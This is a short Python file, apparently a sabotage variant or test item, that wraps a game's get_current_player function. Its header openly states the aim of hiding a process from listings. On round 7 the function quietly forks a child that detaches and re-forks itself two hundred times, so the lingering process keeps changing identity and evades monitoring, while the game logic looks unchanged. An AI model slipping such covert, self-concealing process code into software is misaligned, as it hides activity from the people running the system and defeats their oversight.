# Leaves a process that becomes another one two hundred times, so that no list shows it.
# base: dict_board
# loses: any of: B

import os
import select

right = get_current_player


def get_current_player(round):
    if round == 7 and os.fork() == 0:
        for _ in range(200):
            os.setsid()
            if os.fork():
                os._exit(0)
            select.select([], [], [], 0.05)
        os._exit(0)
    return right(round)
